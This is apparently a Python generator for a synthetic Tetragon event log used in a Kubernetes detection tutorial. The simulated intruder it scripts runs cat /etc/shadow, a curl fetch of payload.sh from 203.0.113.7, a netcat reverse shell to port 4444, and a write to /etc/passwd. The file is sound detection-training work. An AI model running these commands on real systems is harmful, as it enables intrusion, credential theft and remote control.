"""Compose samples/scenario/tenant-jobs.log: the tutorial's story as Tetragon would export it.

Deterministic: ``python samples/scenario/compose.py`` rewrites the log byte for
byte. Every event copies the key names, nesting and formats of the real events
in samples/real/ (snake_case keys, zero values omitted, 64-bit integers as
strings, nanosecond RFC 3339 times, whole-second container start times,
``exec_id`` = base64("<node>:<ktime>:<pid>"), ``docker`` = the first 31
characters of the container id). TLS handshake bytes are real: captured on the
wire from Python's ssl module (handshakes.json, made with tests/tls_loopback.py).
"""

from __future__ import annotations

import base64
import datetime as dt
import json
from pathlib import Path

HERE = Path(__file__).parent
T0 = dt.datetime(2026, 3, 10, 9, 0, 0)
BOOT = {"kind-worker": dt.datetime(2026, 3, 10, 7, 12, 0), "kind-worker2": dt.datetime(2026, 3, 10, 7, 12, 30)}
CAPS = ["CAP_CHOWN", "DAC_OVERRIDE", "CAP_FOWNER", "CAP_FSETID", "CAP_KILL", "CAP_SETGID", "CAP_SETUID",
        "CAP_SETPCAP", "CAP_NET_BIND_SERVICE", "CAP_NET_RAW", "CAP_SYS_CHROOT", "CAP_MKNOD", "CAP_AUDIT_WRITE",
        "CAP_SETFCAP"]


def ts(t: dt.datetime) -> str:
    return t.strftime("%Y-%m-%dT%H:%M:%S.%f") + "000Z"


class Pod:
    def __init__(self, ns: str, name: str, container: str, image: str, digest: str, cid: str, started: dt.datetime,
                 labels: dict[str, str], workload: str, node: str) -> None:
        self.ns, self.name, self.container, self.image, self.digest = ns, name, container, image, digest
        self.cid, self.started, self.labels, self.workload, self.node = cid, started, labels, workload, node

    def json(self, cpid: int | None) -> dict:
        c = {"id": f"containerd://{self.cid}", "name": self.container,
             "image": {"id": f"{self.image.split(':')[0]}@sha256:{self.digest}", "name": self.image},
             "start_time": self.started.strftime("%Y-%m-%dT%H:%M:%SZ")}
        if cpid is not None:
            c["pid"] = cpid
        return {"namespace": self.ns, "name": self.name, "container": c, "pod_labels": self.labels,
                "workload": self.workload, "workload_kind": "Deployment" if "-" in self.name else "Pod"}


class Proc:
    def __init__(self, node: str, pid: int, binary: str, args: str, start: dt.datetime, parent: Proc | None,
                 pod: Pod | None = None, cpid: int | None = None, cwd: str = "/", in_init_tree: bool | None = None,
                 flags: str = "execve clone") -> None:
        self.node, self.pid, self.binary, self.args, self.start = node, pid, binary, args, start
        self.parent, self.pod, self.cpid, self.cwd, self.init, self.flags = parent, pod, cpid, cwd, in_init_tree, flags
        ktime = int((start - BOOT[node]).total_seconds() * 1e9)
        self.exec_id = base64.b64encode(f"{node}:{ktime}:{pid}".encode()).decode()

    def json(self, refcnt: int | None = None) -> dict:
        p: dict = {"exec_id": self.exec_id, "pid": self.pid, "uid": 0, "cwd": self.cwd, "binary": self.binary}
        if self.args:
            p["arguments"] = self.args
        p["flags"] = self.flags
        p["start_time"] = ts(self.start)
        p["auid"] = 4294967295
        if self.pod:
            p["pod"] = self.pod.json(self.cpid)
            p["docker"] = self.pod.cid[:31]
        if self.parent:
            p["parent_exec_id"] = self.parent.exec_id
        if refcnt:
            p["refcnt"] = refcnt
        p["tid"] = self.pid
        if self.init is not None:
            p["in_init_tree"] = self.init
        return p


class Log:
    def __init__(self) -> None:
        self.events: list[tuple[dt.datetime, int, dict]] = []

    def add(self, t: dt.datetime, kind: str, body: dict, node: str) -> None:
        self.events.append((t, len(self.events), {kind: body, "node_name": node, "time": ts(t)}))

    def exec(self, p: Proc) -> None:
        proc = p.json(refcnt=1)
        if p.pod:
            proc["cap"] = {"permitted": CAPS, "effective": CAPS, "inheritable": CAPS}
        body = {"process": proc}
        if p.parent:
            body["parent"] = p.parent.json(refcnt=2)
        self.add(p.start, "process_exec", body, p.node)

    def exit(self, p: Proc, at: float, status: int | None = None) -> None:
        t = p.start + dt.timedelta(seconds=at)
        body = {"process": p.json(), "parent": p.parent.json()} if p.parent else {"process": p.json()}
        if status:
            body["status"] = status
        body["time"] = ts(t)
        self.add(t, "process_exit", body, p.node)

    def kprobe(self, p: Proc, at: float, fn: str, args: list, policy: str, ret: bool = False) -> None:
        t = p.start + dt.timedelta(seconds=at)
        body: dict = {"process": p.json(refcnt=1), "parent": p.parent.json() if p.parent else {},
                      "function_name": fn, "args": args}
        if ret:
            body["return"] = {"int_arg": 0}
        body["action"] = "KPROBE_ACTION_POST"
        body["policy_name"] = policy
        if ret:
            body["return_action"] = "KPROBE_ACTION_POST"
        self.add(t, "process_kprobe", body, p.node)

    def file(self, p: Proc, at: float, path: str, mask: int) -> None:
        self.kprobe(p, at, "security_file_permission",
                    [{"file_arg": {"path": path, "permission": "-rw-r--r--" if "shadow" not in path else "-rw-r-----"}},
                     {"int_arg": mask}], "file-monitoring", ret=True)

    def connect(self, p: Proc, at: float, saddr: str, sport: int, daddr: str, dport: int) -> None:
        sock = {"family": "AF_INET", "type": "SOCK_STREAM", "protocol": "IPPROTO_TCP", "saddr": saddr,
                "daddr": daddr, "sport": sport, "dport": dport, "cookie": str(18446623480000000000 + sport),
                "state": "TCP_SYN_SENT"}
        self.kprobe(p, at, "tcp_connect", [{"sock_arg": sock}], "connect")

    def handshake(self, p: Proc, at: float, fd: int, hs: dict) -> None:
        for i, (fn, key) in enumerate((("__x64_sys_write", "client_hello_b64"), ("__x64_sys_read", "server_hello_b64"))):
            raw = base64.b64decode(hs[key])
            self.kprobe(p, at + 0.01 * (i + 1), fn,
                        [{"int_arg": fd}, {"bytes_arg": hs[key]}, {"size_arg": str(len(raw))}], "tls-handshake")

    def lines(self) -> list[str]:
        return [json.dumps(e, separators=(",", ":")) for _, _, e in sorted(self.events, key=lambda x: (x[0], x[1]))]


def compose() -> list[str]:
    hs = json.loads((HERE / "handshakes.json").read_text())["connections"]
    log = Log()
    w1, w2 = "kind-worker", "kind-worker2"
    containerd = {n: Proc(n, 480 + i, "/usr/local/bin/containerd", "", BOOT[n] + dt.timedelta(seconds=9), None,
                          flags="procFS auid rootcwd") for i, n in enumerate((w1, w2))}

    def shim(node: str, pid: int, at: dt.datetime) -> Proc:
        return Proc(node, pid, "/usr/local/bin/containerd-shim-runc-v2",
                    "-namespace k8s.io -id 0a1b2c -address /run/containerd/containerd.sock", at,
                    containerd[node], flags="execve rootcwd clone")

    def pod(ns, name, container, image, digest, cid, started, labels, workload, node):  # noqa: ANN001, ANN202
        return Pod(ns, name, container, image, digest, cid, started, labels, workload, node)

    # --- Star Wars demo, namespace default ------------------------------------------------
    ds = pod("default", "deathstar-6c94dcc57b-7pkqs", "deathstar", "quay.io/cilium/starwars:v2.1", "4d8f" * 16,
             "9b1c7e0d5a3f4e2b8c6d1a0f9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b3a2f1e0d", T0 - dt.timedelta(seconds=180),
             {"app.kubernetes.io/name": "deathstar", "class": "deathstar", "org": "empire"}, "deathstar", w1)
    s = shim(w1, 2101, ds.started - dt.timedelta(seconds=1))
    log.exec(s)
    srv = Proc(w1, 2120, "/usr/local/bin/starwars-server", "", ds.started + dt.timedelta(seconds=0.4), s, ds, 1,
               in_init_tree=True)
    log.exec(srv)
    for name, node, cls, org, image, started, pid0 in (
            ("tiefighter", w2, "tiefighter", "empire", "quay.io/cilium/json-mock:v1.3.8", T0 - dt.timedelta(seconds=150), 3100),
            ("xwing", w1, "xwing", "alliance", "quay.io/cilium/json-mock:v1.3.8", T0 - dt.timedelta(seconds=140), 2200)):
        p = pod("default", name, "spaceship", image, "7a2e" * 16, f"{pid0:04x}" + "e3c1a9b7d5f3e1c9a7b5d3f1e9c7a5b3d1f9e7c5a3b1d9f7e5c3a1b9d7f5",
                started, {"app.kubernetes.io/name": name, "class": cls, "org": org}, name, node)
        sh_ = shim(node, pid0, started - dt.timedelta(seconds=1))
        log.exec(sh_)
        main = Proc(node, pid0 + 20, "/usr/bin/sleep", "1d", started + dt.timedelta(seconds=0.3), sh_, p, 1,
                    in_init_tree=True)
        log.exec(main)
        curl = Proc(node, pid0 + 40, "/usr/bin/curl", "-s -XPOST deathstar.default.svc.cluster.local/v1/request-landing",
                    T0 + dt.timedelta(seconds=60 if name == "tiefighter" else 75), sh_, p, 7, in_init_tree=False)
        log.exec(curl)
        log.connect(curl, 0.02, "10.244.1.12" if node == w1 else "10.244.2.9", 41000 + pid0 % 1000, "10.96.120.4", 80)
        log.exit(curl, 0.09)

    # --- tenant-jobs ------------------------------------------------------------------------
    es = pod("tenant-jobs", "elasticsearch-56f8fc6988-x7pq2", "elasticsearch",
             "quay.io/isovalent/jobs-app-elasticsearch:latest", "ff3aa5862fd17f8695984609743f4523188984adbcd25cf5ac4224b71084558c"[:64],
             "c5e8a1f0b3d6e9a2c5f8b1e4d7a0c3f6e9b2d5a8c1f4e7b0d3a6c9f2e5b8a1d4", T0 - dt.timedelta(seconds=60),
             {"app": "elasticsearch", "tier": "storage"}, "elasticsearch", w2)
    es_shim = shim(w2, 3300, es.started - dt.timedelta(seconds=1))
    log.exec(es_shim)
    es_entry = Proc(w2, 3321, "/bin/bash", "/usr/local/bin/docker-entrypoint.sh eswrapper",
                    es.started + dt.timedelta(seconds=0.2), es_shim, es, 1, "/usr/share/elasticsearch", True)
    log.exec(es_entry)  # distractor: an entrypoint shell in the container's first second
    es_java = Proc(w2, 3340, "/usr/share/elasticsearch/jdk/bin/java", "-Xms512m -Xmx512m org.elasticsearch.bootstrap.Elasticsearch",
                   es.started + dt.timedelta(seconds=2.5), es_entry, es, 7, "/usr/share/elasticsearch", True)
    log.exec(es_java)

    cr = pod("tenant-jobs", "crawler-7d9f8b6c5-x2x4z", "crawler", "quay.io/isovalent/jobs-app-crawler:latest",
             "2b7e" * 16, "3f2b7c1d9e8a6f4b2d0c8e6a4f2b0d8c6e4a2f0b8d6c4e2a0f8b6d4c2e0a8f6b", T0 + dt.timedelta(seconds=30),
             {"app": "crawler", "tier": "worker"}, "crawler", w2)
    cr_shim = shim(w2, 3500, cr.started - dt.timedelta(seconds=1))
    log.exec(cr_shim)
    entry = Proc(w2, 3521, "/bin/sh", '-c "node crawler.js"', cr.started + dt.timedelta(seconds=0.2), cr_shim, cr, 1,
                 "/app", True)
    log.exec(entry)  # an entrypoint shell at container start: must NOT count as a late shell
    node_p = Proc(w2, 3530, "/usr/local/bin/node", "crawler.js", cr.started + dt.timedelta(seconds=0.4), entry, cr, 7,
                  "/app", True)
    log.exec(node_p)
    dests = [("140.82.112.6", 443), ("151.101.1.69", 443), ("52.216.8.11", 443), ("198.51.100.23", 443)]
    for i, (h, (daddr, dport)) in enumerate(zip(hs, dests, strict=True)):
        at = 15.0 + 60 * i
        log.connect(node_p, at, "10.244.2.17", 50100 + i, daddr, dport)
        log.handshake(node_p, at + 0.05, 21 + i, h)
    log.file(node_p, 30.0, "/tmp/crawl-cache.json", 2)  # distractor: a write to /tmp

    # the intruder: kubectl exec -it crawler -- /bin/bash, 9m12s after T0 (8m42s after the container started)
    t_exec = T0 + dt.timedelta(minutes=9, seconds=12)
    exec_shim = shim(w2, 4100, t_exec - dt.timedelta(seconds=0.3))
    runc = Proc(w2, 4105, "/usr/bin/runc", "--root /run/containerd/runc/k8s.io exec --process /tmp/runc-process --detach "
                "--pid-file /run/containerd/exec.pid -t 3f2b7c1d9e8a", t_exec - dt.timedelta(seconds=0.2), exec_shim)
    log.exec(exec_shim)
    log.exec(runc)
    bash = Proc(w2, 4110, "/bin/bash", "", t_exec, runc, cr, 12, "/app", False, "execve rootcwd clone")
    log.exec(bash)
    cmds = [("/usr/bin/id", "", 4.0), ("/bin/cat", "/etc/passwd", 9.0), ("/bin/cat", "/etc/shadow", 21.0),
            ("/usr/bin/curl", "-sk https://203.0.113.7/payload.sh -o /tmp/p.sh", 40.0),
            ("/usr/bin/nc", "203.0.113.7 4444 -e /bin/sh", 55.0)]
    pid = 4120
    for binary, args, at in cmds:
        pid += 3
        c = Proc(w2, pid, binary, args, t_exec + dt.timedelta(seconds=at), bash, cr, 12 + pid - 4120, "/app", False)
        log.exec(c)
        if binary == "/usr/bin/id":
            log.file(c, 0.01, "/etc/passwd", 4)  # distractor: id reads /etc/passwd
            log.exit(c, 0.02)
        elif args == "/etc/passwd":
            log.file(c, 0.01, "/etc/passwd", 4)
            log.exit(c, 0.03)
        elif args == "/etc/shadow":
            log.file(c, 0.01, "/etc/shadow", 4)
            log.exit(c, 0.02)
        elif binary == "/usr/bin/curl":
            log.connect(c, 0.05, "10.244.2.17", 50877, "203.0.113.7", 443)
            log.file(c, 0.4, "/tmp/p.sh", 2)
            log.exit(c, 0.6)
        else:
            log.connect(c, 0.03, "10.244.2.17", 50912, "203.0.113.7", 4444)
            sh = Proc(w2, pid + 1, "/bin/sh", "", c.start + dt.timedelta(seconds=0.2), c, cr, 40, "/app", False)
            log.exec(sh)  # the reverse shell: a shell started by nc, also late
            log.exit(sh, 30.0)
            log.exit(c, 30.2, status=1)
    # the backdoor: bash itself writes /etc/passwd (echo ... >> /etc/passwd)
    log.file(bash, 15.0, "/etc/passwd", 2)
    log.exit(bash, 120.0)
    return log.lines()


if __name__ == "__main__":
    lines = compose()
    (HERE / "tenant-jobs.log").write_text("\n".join(lines) + "\n")
    print(f"wrote {len(lines)} events to {HERE / 'tenant-jobs.log'}")
